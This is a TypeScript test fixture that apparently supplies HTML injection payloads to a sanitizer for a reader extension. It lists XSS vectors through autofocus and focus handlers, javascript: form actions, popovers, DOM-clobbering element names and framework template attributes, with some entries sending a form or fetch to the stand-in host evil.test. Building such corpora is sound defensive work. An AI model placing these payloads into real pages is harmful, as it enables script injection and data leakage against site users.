import type { PayloadClass } from './payload.ts';

/** Form controls, and names that stand in the place of the document's and the form's own members. */
export const controls: PayloadClass = {
  'a field that takes the focus':
    '<input autofocus onfocus=ran(this)><textarea autofocus onfocus=ran(this)></textarea>',
  'fields that lose it':
    '<input autofocus onblur=ran(this)><input autofocus><select autofocus onfocus=ran(this)><option>x</select>',
  'a key that is typed by itself':
    '<input accesskey=x onclick=ran(this) type=hidden><a href="javascript:ran(this)" accesskey=x>một liên kết</a>',
  'anything that takes the focus': '<p tabindex=1 autofocus onfocus=ran(this) contenteditable>một đoạn</p>',
  'a form': '<form action="javascript:ran(this)"><button>x</button><input type=submit></form>',
  'a form, a line end':
    '<form action="javasc\nript:ran(this)" id=f><input name=x></form><button form=f>x</button>',
  'a form elsewhere':
    '<form action="http://evil.test/away" method=post target=_top><input name=q value=x><button>Tìm</button></form>',
  'a button with its own address':
    '<form><button formaction="javascript:ran(this)">x</button><input type=image formaction=javascript:ran(this) src=x></form>',
  'a button of a form far away':
    '<form id=far></form><button form=far formaction="javascript:ran(this)" formmethod=dialog>x</button>',
  'a field of a search':
    '<isindex type=image src=x onerror=ran(this) action=javascript:ran(this) prompt="x">',
  'a field that is wrong':
    '<form onsubmit=ran(this)><input required oninvalid=ran(this) pattern="[a" value="a!"><button>x</button></form>',
  'a keygen': '<keygen autofocus onfocus=ran(this)>',
  'a command for a dialog':
    '<button commandfor=d command=show-modal>x</button><dialog id=d><form method=dialog><button formaction=javascript:ran(this)>x</button></form></dialog>',
  'a popover that covers':
    '<button popovertarget=p popovertargetaction=show>x</button><div popover id=p style="inset:0"><a href="javascript:ran(this)">một liên kết</a></div>',
  'a button’s interest': '<button interestfor=i>x</button><div id=i popover oninterest=ran(this)>x</div>',
  'a name: getElementById': '<img name=getElementById src=x><p>một đoạn</p>',
  'names: body, head, documentElement':
    '<img name=body><img name=head><img name=documentElement><form name=implementation></form>',
  'names: cookie, location, defaultView':
    '<img name=cookie src=x><a id=location href="#x">x</a><iframe name=defaultView></iframe>',
  'names: createElement, importNode':
    '<img src=x name=createElement><img src=y id=importNode><embed name=createRange>',
  'a form’s: attributes, twice':
    '<form onmouseover=ran(this)><input name=attributes><input name=attributes>một đoạn</form>',
  'a form’s: childNodes, parentNode':
    '<form onclick=ran(this)><input name=childNodes><input name=parentNode><p>một đoạn</p></form>',
  'a form’s: nodeName, nodeType':
    '<form onclick=ran(this)><input name=nodeName><input name=nodeType value=3><p>một đoạn</p></form>',
  'a form’s: removeChild, remove':
    '<form onclick=ran(this)><input name=removeChild><input name=remove><output name=removeAttribute><p onclick=ran(this)>một đoạn</p></form>',
  'a form’s: setAttribute, hasAttribute':
    '<form onclick=ran(this)><input name=setAttribute><input name=hasAttribute><input name=getAttributeNames></form>',
  'a form’s: namespaceURI, localName':
    '<form onclick=ran(this)><input name=namespaceURI><input name=localName><input name=tagName><input name=content></form>',
  'a form’s: shadowRoot, textContent':
    '<form onclick=ran(this)><input name=shadowRoot><input name=textContent><input name=insertBefore>một đoạn</form>',
  'a form’s: querySelectorAll':
    '<form><input name=querySelectorAll><input name=querySelector><input name=closest><input name=matches><p>một đoạn</p></form>',
  'names of the extension':
    '<div id=doc-sach-reader></div><doc-sach-reader><p>một đoạn</p></doc-sach-reader><div id=doc-sach-veil></div>',
  'an element in the place of another':
    '<p is="x-p" onclick=ran(this)>một đoạn</p><button is=x-button onfocus=ran(this) autofocus>x</button>',
  'names of prototypes':
    '<p class="__proto__ constructor" id=__proto__ name=constructor title=hasOwnProperty>một đoạn</p>',
  'an editor’s templates':
    '<p>{{constructor.constructor("ran(0)")()}} {{ran(0)}} &lt;%= ran(0) %&gt; [[ran(0)]]</p>',
  'attributes of other libraries':
    '<p x-data="ran(0)" x-init="ran(0)" @click="ran(0)" ng-init="ran(0)" v-html="ran(0)" hx-get="http://evil.test/hx" hx-trigger=load data-bind="html: ran()">một đoạn</p>',
  'attributes of our own library':
    '<p dangerouslySetInnerHTML="{&quot;__html&quot;:&quot;<img src=x onerror=ran(this)>&quot;}" ref="x" key="y" children="z">một đoạn</p>',
};
